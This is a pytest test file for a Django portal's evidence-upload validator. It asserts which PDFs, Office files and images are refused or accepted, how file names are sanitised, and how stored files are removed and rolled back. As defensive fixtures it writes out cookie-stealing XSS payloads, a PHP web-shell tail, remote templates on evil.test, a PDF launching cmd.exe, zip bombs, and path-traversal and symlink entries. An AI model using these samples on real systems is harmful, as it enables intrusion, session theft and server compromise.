"""佐证: what is taken and what is refused, by content; kept, filed, removed, and never left behind."""

from __future__ import annotations

import contextlib
import hashlib
import io
import random
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import RequestFactory
from openpyxl import Workbook
from PIL import Image

from office.models import Activity
from plans.errors import StateError
from plans.files import ACCEPTED, MAX_NAME, RefusedFile, clean_name, recognise
from plans.models import Evidence, EvidenceKind, Report
from plans.services import return_report, withdraw_report
from plans.services.evidence import attach_evidence, file_evidence, remove_evidence
from tests.builders import TODAY, first, fresh, make_target, moment, report, submit, undone

# Files made here --------------------------------------------------------------------------------


def pdf(*objects: bytes, head: bytes = b"", tail: bytes = b"") -> bytes:
    """A PDF with one page and further objects."""
    body = b"%PDF-1.7\n" + head
    for number, text in enumerate([b"<< /Type /Catalog /Pages 2 0 R >>", *objects], 1):
        body += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    return body + b"trailer\n<< /Root 1 0 R " + tail + b">>\nstartxref\n9\n%%EOF\n"


def packed_objects(text: bytes) -> bytes:
    """An object stream, as PDF 1.5 packs dictionaries."""
    packed = zlib.compress(text)
    return b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\r\n" % len(
        packed
    ) + packed + b"\nendstream"  # fmt: skip


WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def types(content_type: str, part: str) -> str:
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    )


def relation(kind: str, target: str, mode: str = "External") -> str:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATIONS}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def zipped(parts: dict[str, str | bytes], *, store: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if store else zipfile.ZIP_DEFLATED) as package:
        for name, text in parts.items():
            package.writestr(name, text)
    return out.getvalue()


def docx(
    more: dict[str, str | bytes] | None = None, *, content_type: str = WORD, text: str = "现场会"
) -> bytes:
    return zipped(
        {
            "[Content_Types].xml": types(content_type, "word/document.xml"),
            "word/document.xml": f"<document>{text}</document>",
            **(more or {}),
        }
    )


def xlsx() -> bytes:
    """A workbook as a real writer makes it."""
    book, out = Workbook(), io.BytesIO()
    assert book.active is not None
    book.active.append(["名单", 19])
    book.save(out)
    return out.getvalue()


def picture(
    form: str = "PNG", size: tuple[int, int] = (900, 600), mode: str = "RGB", **options: Any
) -> bytes:
    """Noise, so that no two are alike in size and none compresses away."""
    noise = random.Random(size[0]).randbytes(size[0] // 10 * (size[1] // 10) * 3)
    image = Image.frombytes("RGB", (size[0] // 10, size[1] // 10), noise).resize(size).convert(mode)
    out = io.BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


def photo_with_place() -> bytes:
    """A phone's photo, turned by 90 degrees, that says where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "SECRETPHONE"
    exif.get_ifd(0x8825).update({1: "N", 2: (35.0, 24.0, 1.0), 3: "E", 4: (116.0, 35.0, 2.0)})
    return picture("JPEG", exif=exif, comment=b"SECRETCOMMENT")


def huge_png(side: int) -> bytes:
    """A PNG that only says how large it is."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes((side // 8 + 1) * 100))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def with_symlink() -> bytes:
    link = zipfile.ZipInfo("word/media/link")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(link, "/etc/passwd")
    return out.getvalue()


def with_password() -> bytes:
    """Every entry says that it is encrypted."""
    content = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def with_false_size() -> bytes:
    """The first entry says that it takes more room than the whole file has."""
    content = docx()
    at = content.index(b"PK\x01\x02") + 20
    return content[:at] + b"\xff\xff\xff\x00" + content[at + 4 :]


def with_entry(name: str) -> bytes:
    """A docx with an entry of that very name, which zipfile itself would tidy up."""
    placeholder = "X" * len(name)
    return docx({placeholder: "x"}).replace(placeholder.encode(), name.encode())


EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><script>alert(document.cookie)</script>"


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    """A file as a browser sends it: with the name as it stands, which the constructor would tidy up."""
    sent = SimpleUploadedFile("x", content, content_type="text/html")
    sent._name = name  # type: ignore[attr-defined]
    return sent


# What is refused, with words --------------------------------------------------------------------

REFUSED: dict[str, tuple[str, bytes, str]] = {
    "60 empty": ("空.pdf", b"", "是空文件"),
    "61 one byte over 20 MB": ("大.pdf", pdf().ljust(20 * 1024 * 1024 + 1), "有20.1MB，一个文件最多20MB"),
    "63 HTML before the PDF": ("a.pdf", b"<html>" + pdf(), ACCEPTED),
    "63 HTML within its beginning": ("a.pdf", pdf(head=b"%<script>alert(1)</script>\n"), "夹带了网页"),
    "65 GIF that is a script": ("a.gif", b"GIF89a=1;alert(document.cookie)//", "已损坏或不完整"),
    "66 SVG": ("图.svg", SVG, ACCEPTED),
    "66 SVG called png": ("图.png", SVG, ACCEPTED),
    "67 HTML called png": ("图.png", HTML, ACCEPTED),
    "67 XHTML": ("a.xht", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>', ACCEPTED),
    "67 packed SVG called png": ("图.png", b"\x1f\x8b\x08" + zlib.compress(SVG), ACCEPTED),
    "68 docm": ("a.docx", docx({"word/vbaProject.bin": b"x"}), "带宏的文件"),
    "68 docm by type": ("a.docx", docx(content_type=MACRO_WORD), "带宏的文件"),
    "68 macros under another name": (
        "a.docx",
        zipped(
            {
                "[Content_Types].xml": types(WORD, "word/document.xml").replace(
                    "</Types>",
                    '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                ),
                "word/document.xml": "<a/>",
                "word/x.bin": "x",
            }
        ),
        "带宏的文件",
    ),
    "68 xlsm": (
        "a.xlsm",
        zipped(
            {
                "[Content_Types].xml": types(SHEET, "xl/workbook.xml"),
                "xl/workbook.xml": "<a/>",
                "xl/vbaProject.bin": "x",
            }
        ),
        "带宏的文件",
    ),
    "69 remote template": (
        "a.docx",
        docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.test/a.dotm")}),
        "外部模板",
    ),
    "69 remote object": (
        "a.docx",
        docx({"word/_rels/document.xml.rels": relation("oleObject", "mhtml:https://evil.test/x!x")}),
        "外部模板或对象",
    ),
    "70 flat bomb": ("a.docx", docx({"word/media/a": bytes(201 * 1024 * 1024)}), "展开后太大"),
    "70 small bomb by its ratio": ("a.docx", docx({"word/media/a": bytes(3 * 1024 * 1024)}), "展开后太大"),
    "70 nested zip": ("a.docx", docx({"word/media/a.png": zipped({"a": "x"})}), "夹带了压缩包"),
    "70 archive among the objects": (
        "a.docx",
        docx({"word/embeddings/a.xlsx": zipped({"a": "x"})}),
        "不是Word或Excel文件",
    ),
    "70 archive two floors down": (
        "a.docx",
        docx({"word/embeddings/a.docx": docx({"word/embeddings/b.xlsx": xlsx()})}),
        "夹带了压缩包",
    ),
    "70 2,001 entries": ("a.docx", docx({f"word/{number}": "x" for number in range(2000)}), "部件超过2000个"),
    "70 sizes that cannot be": (
        "a.docx",
        with_false_size(),
        "已损坏",
    ),
    "71 path upwards": ("a.docx", with_entry("word/../../../x"), "内部路径不正常"),
    "71 absolute path": ("a.docx", with_entry("/etc/cron.d/x"), "内部路径不正常"),
    "71 backslash": ("a.docx", with_entry("..\\..\\x.exe"), "内部路径不正常"),
    "71 drive": ("a.docx", with_entry("C:/x.exe"), "内部路径不正常"),
    "71 symlink": ("a.docx", with_symlink(), "内部路径不正常"),
    "72 encrypted zip": ("a.docx", with_password(), "设了密码"),
    "72 encrypted PDF": ("a.pdf", pdf(tail=b"/Encrypt 9 0 R "), "设了密码或限制"),
    "72 encrypted or old Office": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), ACCEPTED),
    "73 20000×20000": ("图.png", huge_png(20000), "超过5000万"),
    "73 12000×12000": ("图.png", huge_png(12000), "超过5000万"),
    "73 8000×8000": ("图.png", huge_png(8000), "超过5000万"),
    "81 EICAR": ("报告.pdf", EICAR, ACCEPTED),
    "PDF with a script": ("a.pdf", pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "里面有脚本"),
    "PDF with a script in disguise": ("a.pdf", pdf(b"<< /S /J#61v#61Script >>"), "里面有脚本"),
    "PDF with a packed script": ("a.pdf", pdf(packed_objects(b"11 0 << /S /JavaScript >>")), "里面有脚本"),
    "PDF that starts a program": ("a.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "启动别的程序"),
    "PDF with an attachment": ("a.pdf", pdf(b"<< /Type /EmbeddedFile >>"), "夹带了附件"),
    "PDF cut off": ("a.pdf", pdf()[:40], "不完整"),
    "program": ("a.exe", b"MZ" + bytes(100), ACCEPTED),
    "text": ("a.txt", "会议记录".encode(), ACCEPTED),
    "zip that is no office file": ("a.docx", zipped({"a.txt": "x"}), ACCEPTED),
    "office file without a document": (
        "a.docx",
        zipped({"[Content_Types].xml": types(WORD, "word/document.xml")}),
        ACCEPTED,
    ),
    "content types with an entity": (
        "a.docx",
        zipped(
            {
                "[Content_Types].xml": '<!DOCTYPE a [<!ENTITY b "c">]><Types>&b;</Types>',
                "word/document.xml": "<a/>",
            }
        ),
        "已损坏",
    ),
    "docx cut off": ("a.docx", docx()[:-30], "已损坏"),
    "picture cut off": ("a.jpg", picture("JPEG")[:2000], "已损坏或不完整"),
}


@pytest.mark.once
@pytest.mark.parametrize("case", [case for case in REFUSED if not case.startswith("61")])
def test_what_is_refused_says_why_and_what_to_do(case):
    _, content, words = REFUSED[case]

    with pytest.raises(RefusedFile) as refused:
        recognise(content)

    assert words in str(refused.value)
    assert len(str(refused.value)) < 100
    assert not {"!", "！"} & set(str(refused.value))


# What is taken ----------------------------------------------------------------------------------


@pytest.mark.once
@pytest.mark.parametrize(
    ("content", "kind", "extension"),
    [
        (pdf(), EvidenceKind.PDF, "pdf"),
        (pdf(packed_objects(b"11 0 << /Type /Font >>")), EvidenceKind.PDF, "pdf"),
        (pdf(b"<< /Length 9 >>\nstream\nnot packed\nendstream"), EvidenceKind.PDF, "pdf"),
        (docx(), EvidenceKind.DOCX, "docx"),
        (docx({"word/_rels/document.xml.rels": relation("hyperlink", "https://www.gov.cn/")}), "docx", "docx"),
        (docx({"word/embeddings/Microsoft_Excel_Sheet.xlsx": xlsx()}), "docx", "docx"),
        (xlsx(), EvidenceKind.XLSX, "xlsx"),
        (picture("PNG"), EvidenceKind.IMAGE, "png"),
        (picture("PNG", mode="RGBA"), EvidenceKind.IMAGE, "png"),
        (picture("PNG", mode="P"), EvidenceKind.IMAGE, "png"),
        (picture("JPEG"), EvidenceKind.IMAGE, "jpg"),
        (picture("JPEG", mode="CMYK"), EvidenceKind.IMAGE, "jpg"),
        (picture("WEBP"), EvidenceKind.IMAGE, "png"),
        (picture("GIF"), EvidenceKind.IMAGE, "png"),
    ],
)  # fmt: skip
def test_what_is_taken_is_known_by_its_content(content, kind, extension):
    sound = recognise(content)

    assert (sound.kind, sound.extension) == (kind, extension)
    if kind == EvidenceKind.IMAGE:
        with Image.open(io.BytesIO(sound.content)) as stored, Image.open(io.BytesIO(sound.preview)) as small:
            assert stored.format == {"png": "PNG", "jpg": "JPEG"}[extension]
            assert stored.size == (900, 600)
            assert (small.format, small.size) == ("JPEG", (480, 320))
    else:
        assert (sound.content, sound.preview) == (content, b"")


@pytest.mark.once
def test_a_photo_is_turned_upright_and_no_longer_says_where_it_was_taken():
    content = photo_with_place()
    assert b"SECRETPHONE" in content

    sound = recognise(content)

    for stored in (sound.content, sound.preview):
        with Image.open(io.BytesIO(stored)) as image:
            assert dict(image.getexif()) == {}
            assert dict(image.getexif().get_ifd(0x8825)) == {}
            assert image.height > image.width
        assert b"SECRET" not in stored
        assert b"Exif" not in stored


@pytest.mark.once
@pytest.mark.parametrize("form", ["JPEG", "GIF", "PNG", "WEBP"])
def test_what_hangs_on_a_picture_is_not_kept(form):
    for tail in (b"<?php system($_GET[0]);?>", b"<script>alert(1)</script>", zipped({"a": "x"})):
        sound = recognise(picture(form, (90, 60)) + tail)
        assert tail not in sound.content
        assert tail not in sound.preview


@pytest.mark.once
def test_a_small_picture_is_not_blown_up():
    with Image.open(io.BytesIO(recognise(picture(size=(40, 30))).preview)) as small:
        assert small.size == (40, 30)


@pytest.mark.once
def test_damaged_files_are_refused_and_never_fail():
    """Bit flips anywhere: an answer or a sentence, nothing else."""
    chance = random.Random(7)
    for content in (
        pdf(packed_objects(b"11 0 <<>>")),
        docx(),
        xlsx(),
        picture("PNG", (60, 60)),
        photo_with_place(),
    ):
        for _ in range(150):
            broken = bytearray(content)
            for _ in range(chance.choice((1, 4, 40))):
                broken[chance.randrange(len(broken))] = chance.randrange(256)
            cut = chance.choice((len(broken), chance.randrange(1, len(broken))))
            with contextlib.suppress(RefusedFile):
                recognise(bytes(broken[:cut]))


# Names ------------------------------------------------------------------------------------------


@pytest.mark.once
@pytest.mark.parametrize(
    ("name", "extension", "clean"),
    [
        ("现场照片.JPG", "jpg", "现场照片.jpg"),
        ("..\\..\\x", "pdf", "x.pdf"),
        ("../../etc/passwd", "pdf", "passwd.pdf"),
        ("a\r\nb.pdf", "pdf", "ab.pdf"),
        ("a.pdf\0.html", "pdf", "a.pdf"),
        ("\u202efdp.exe", "pdf", "fdp.pdf"),
        ("CON", "pdf", "_CON.pdf"),
        ("nul.txt", "docx", "_nul.docx"),
        ("LPT1.pdf", "pdf", "_LPT1.pdf"),
        (".htaccess", "pdf", "htaccess.pdf"),
        ("photo.png", "pdf", "photo.pdf"),
        ("工作总结v1.2", "docx", "工作总结v1.2.docx"),
        ("2024.9.20会议", "pdf", "2024.9.20会议.pdf"),
        ('a<b>:"c|d?*.pdf', "pdf", "a_b___c_d__.pdf"),
        ("　 \t", "png", "未命名.png"),
        ("\u200b\ufeff", "png", "未命名.png"),
        ("...", "png", "未命名.png"),
        ("", "", "未命名"),
        ("e\u0301.pdf", "pdf", "é.pdf"),
        ("𬭎𠮷䶮.pdf", "pdf", "𬭎𠮷䶮.pdf"),
        ("\ud800.pdf", "pdf", "未命名.pdf"),
        ("会" * 94 + ".docx", "docx", "会" * 94 + ".docx"),
        ("会" * 300 + ".docx", "docx", "会" * 115 + ".docx"),
    ],
)
def test_a_name_is_made_harmless_and_ends_as_its_content_does(name, extension, clean):
    assert clean_name(name, extension) == clean
    assert len(clean) <= MAX_NAME
    assert clean_name(clean, extension) == clean


# Keeping ----------------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def media(settings, tmp_path) -> Path:
    """A folder of its own for what is uploaded."""
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def on_disk(media: Path) -> set[str]:
    return (
        {str(path.relative_to(media)) for path in media.rglob("*") if path.is_file()}
        if media.exists()
        else set()
    )


@pytest.fixture
def target(office, plan):
    return make_target(plan, office)


def attach(target, *files, by=None, month=9, at=TODAY):
    return attach_evidence(
        target=target, month=first(month), files=list(files), by=fresh(by or target.cadre), at=at
    )


def refusals(target, *files, **more) -> list[str]:
    with pytest.raises(ValidationError) as refused:
        attach(target, *files, **more)
    assert set(refused.value.message_dict) == {"evidence"}
    return refused.value.message_dict["evidence"]


def last_activity() -> Activity:
    return Activity.objects.order_by("-sequence")[0]


def test_files_are_kept_under_names_of_our_own_with_their_sum_and_one_activity(target, office, media):
    before = Activity.objects.count()

    rows = attach(target, upload("../现场.png", picture("JPEG")), upload("a.pdf", pdf()))

    assert Activity.objects.count() == before + 1
    assert [(row.name, row.kind, row.content_type) for row in rows] == [
        ("现场.jpg", "image", "image/jpeg"),
        ("a.pdf", "pdf", "application/pdf"),
    ]
    assert on_disk(media) == {rows[0].file.name, rows[0].preview.name, rows[1].file.name}
    for row in Evidence.objects.filter(pk__in=[row.pk for row in rows]):
        stored = (media / row.file.name).read_bytes()
        assert row.sha256 == hashlib.sha256(stored).hexdigest()
        assert row.size == len(stored)
        assert (row.by, row.at, row.filed_at, row.month) == (office.cadre, TODAY, None, first(9))
        assert "现场" not in str(row.file.name)
    logged = last_activity()
    assert (logged.action, logged.subject_id, logged.actor) == (
        "plans.evidence.attach",
        str(target.pk),
        office.cadre,
    )
    assert [file["sha256"] for file in logged.detail["files"]] == [each.sha256 for each in rows]


def test_no_files_is_nothing_at_all(target):
    before = Activity.objects.count()

    assert attach(target) == []
    assert Activity.objects.count() == before


def test_one_bad_file_and_none_is_taken(target, media):
    before = Activity.objects.count()
    for name, content, words in REFUSED.values():
        sentences = refusals(target, upload("好.pdf", pdf()), upload(name, content))

        assert len(sentences) == 1, name
        assert sentences[0].startswith(f"“{name}”")
        assert words in sentences[0]
    assert not Evidence.objects.exists()
    assert Activity.objects.count() == before
    assert on_disk(media) == set()


def test_every_bad_file_of_a_call_is_named(target):
    sentences = refusals(target, upload("甲.exe", b"MZ"), upload("乙.pdf", pdf()), upload("丙.txt", b"x"))

    assert [sentence[:4] for sentence in sentences] == ["“甲.e", "“丙.t"]


def test_the_same_file_twice_is_refused_with_words(target, plan, office, media):
    attach(target, upload("a.jpg", picture("JPEG")))
    before = on_disk(media)

    again = refusals(target, upload("另一个名字.jpg", picture("JPEG")))
    together = refusals(target, upload("b.pdf", pdf()), upload("c.pdf", pdf()))

    assert again == ["“另一个名字.jpg”：这个文件已经传过了，不用再传"]
    assert together == ["“c.pdf”：这个文件已经传过了，不用再传"]
    assert on_disk(media) == before
    attach(target, upload("a.jpg", picture("JPEG")), month=8)
    attach(make_target(plan, office), upload("a.jpg", picture("JPEG")))
    assert Evidence.objects.count() == 3


def test_number_and_total_are_limited_with_the_numbers(target, settings, media):
    many = [upload(f"{number}.pdf", pdf(b"%d" % number)) for number in range(21)]
    assert refusals(target, *many) == ["一次选了21个文件，一份月报最多20个，请减少"]
    attach(target, *many[:19])
    assert refusals(target, *many[19:]) == ["一份月报最多20个文件，已有19个，这次2个，请减少或先删掉不要的"]
    attach(target, many[20])
    assert Evidence.objects.count() == 20

    settings.EVIDENCE_MAX_FILES = 40
    settings.EVIDENCE_MAX_TOTAL = 2 * 1024 * 1024
    large = upload("大.pdf", pdf().ljust(2 * 1024 * 1024 - 100))
    assert refusals(target, large) == ["一份月报的文件合计最多2MB，加上这次的有2.1MB，请减少或压缩"]
    assert len(on_disk(media)) == 20


def test_a_body_of_unsaid_length_is_not_read():
    """10 GB in pieces: without a length in its head nothing of it reaches the portal."""

    class Endless(io.RawIOBase):
        def read(self, size: int = -1) -> bytes:
            raise AssertionError("read")

    request = RequestFactory().post("/", content_type="multipart/form-data; boundary=x")
    request.META.pop("CONTENT_LENGTH", None)
    environ = {**request.environ, "wsgi.input": Endless(), "HTTP_TRANSFER_ENCODING": "chunked"}
    environ.pop("CONTENT_LENGTH", None)
    sent = type(request)(environ)
    assert not sent.FILES


# Who and when -----------------------------------------------------------------------------------


def test_only_who_may_report_brings_evidence(target, office):
    may = {"cadre", "deputy", "head", "planner"}
    for number, (name, user) in enumerate(office.everyone.items()):
        file = upload("a.pdf", pdf(b"%d" % number))
        if name in may:
            attach(target, file, by=user)
        else:
            with pytest.raises(PermissionDenied):
                attach(target, file, by=user)
    assert Evidence.objects.count() == len(may)


def test_a_report_on_its_way_takes_no_more(target, office, media):
    attach(target, upload("a.pdf", pdf(b"1")))
    handed_in = submit(target, 9, 3)
    before = on_disk(media)

    with pytest.raises(StateError, match="月报已提交，撤回后才能再加佐证"):
        attach(target, upload("b.pdf", pdf(b"2")))
    assert on_disk(media) == before

    return_report(report=handed_in, reason="请附名单", by=fresh(office.head), at=TODAY)
    attach(target, upload("b.pdf", pdf(b"2")))
    assert Evidence.objects.count() == 2

    report(make_target(target.plan, office), 9)
    approved = target.plan.targets.exclude(pk=target.pk).get()
    with pytest.raises(StateError, match="撤回后才能再加佐证"):
        attach(approved, upload("c.pdf", pdf(b"3")))


def test_filing_marks_all_of_the_month_and_nothing_else(target, office, plan):
    attach(target, upload("a.pdf", pdf(b"1")))
    attach(target, upload("b.pdf", pdf(b"2")), by=office.deputy)
    attach(target, upload("c.pdf", pdf(b"3")), month=8)
    attach(make_target(plan, office), upload("d.pdf", pdf(b"4")))
    before = Activity.objects.count()
    later = moment(9, 20, 11)

    assert file_evidence(target=target, month=first(9), by=fresh(office.cadre), at=later) == 2
    assert file_evidence(target=target, month=first(9), by=fresh(office.cadre), at=moment(9, 21)) == 0

    assert set(Evidence.objects.filter(filed_at=later).values_list("name", flat=True)) == {"a.pdf", "b.pdf"}
    assert Activity.objects.count() == before
    with pytest.raises(PermissionDenied):
        file_evidence(target=target, month=first(9), by=fresh(office.leader), at=later)


# Rolled back, removed ---------------------------------------------------------------------------


def test_a_rollback_of_the_callers_takes_the_files_off_again(target, media):
    with undone():
        attach(target, upload("a.jpg", picture("JPEG")), upload("a.pdf", pdf()))
        assert len(on_disk(media)) == 3

    assert on_disk(media) == set()
    assert not Evidence.objects.exists()


def test_what_fails_within_takes_its_files_off_again(target, media, monkeypatch):
    def broken(*args: object, **more: object) -> None:
        raise RuntimeError("the log is full")

    monkeypatch.setattr("plans.services.evidence.activity.record", broken)

    with pytest.raises(RuntimeError):
        attach(target, upload("a.jpg", picture("JPEG")))
    assert on_disk(media) == set()


def test_committed_files_stay(target, media, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True), transaction.atomic():
        attach(target, upload("a.jpg", picture("JPEG")))
    with undone():
        attach(target, upload("b.pdf", pdf()))

    row = Evidence.objects.get()
    assert on_disk(media) == {row.file.name, row.preview.name}


def remove(row, by) -> None:
    remove_evidence(evidence=row, by=fresh(by), at=TODAY)


def test_removing_takes_row_and_files_and_is_logged(
    target, office, media, django_capture_on_commit_callbacks
):
    row = attach(target, upload("a.jpg", picture("JPEG")))[0]
    before = Activity.objects.count()

    with django_capture_on_commit_callbacks(execute=True):
        remove(row, office.cadre)
        assert len(on_disk(media)) == 2  # until it is final

    assert on_disk(media) == set()
    assert not Evidence.objects.exists()
    assert Activity.objects.count() == before + 1
    logged = last_activity()
    assert (logged.action, logged.subject) == ("plans.evidence.remove", "a.jpg")
    assert logged.detail["files"][0]["sha256"] == row.sha256
    with pytest.raises(StateError, match="已经删除"):
        remove(row, office.cadre)


def test_a_removal_that_is_rolled_back_removes_nothing(target, office, media):
    row = attach(target, upload("a.pdf", pdf()))[0]

    with undone():
        remove(row, office.cadre)

    assert on_disk(media) == {row.file.name}
    assert Evidence.objects.exists()


def test_a_file_gone_from_the_disk_can_still_be_removed(
    target, office, media, django_capture_on_commit_callbacks
):
    row = attach(target, upload("a.pdf", pdf()))[0]
    (media / row.file.name).unlink()

    with django_capture_on_commit_callbacks(execute=True):
        remove(row, office.cadre)

    assert not Evidence.objects.exists()


def test_only_the_uploader_or_who_may_report_removes(target, office):
    for number, (name, user) in enumerate(office.everyone.items()):
        row = attach(target, upload("a.pdf", pdf(b"%d" % number)))[0]
        if name in {"cadre", "deputy", "head", "planner"}:
            remove(row, user)
        else:
            with pytest.raises(PermissionDenied):
                remove(row, user)


def test_what_is_handed_in_can_be_removed_only_while_the_report_is_open(target, office):
    row = attach(target, upload("a.pdf", pdf(b"1")))[0]
    handed_in = submit(target, 9, 3)
    file_evidence(target=target, month=first(9), by=fresh(office.cadre), at=moment(9, 20))
    with pytest.raises(StateError, match="月报已提交，撤回后才能删佐证"):
        remove(row, office.cadre)

    withdraw_report(report=handed_in, by=fresh(office.cadre), at=TODAY)
    remove(row, office.cadre)


def test_what_came_with_an_approved_version_stays(target, office):
    row = attach(target, upload("a.pdf", pdf(b"1")))[0]
    file_evidence(target=target, month=first(9), by=fresh(office.cadre), at=TODAY)
    approved = report(target, 9, 3, at=TODAY)
    Report.objects.filter(pk=approved.pk).update(state="draft")  # being amended

    with pytest.raises(StateError, match="随已审定的月报提交，要留存"):
        remove(row, office.cadre)
    assert Evidence.objects.filter(pk=row.pk).exists()
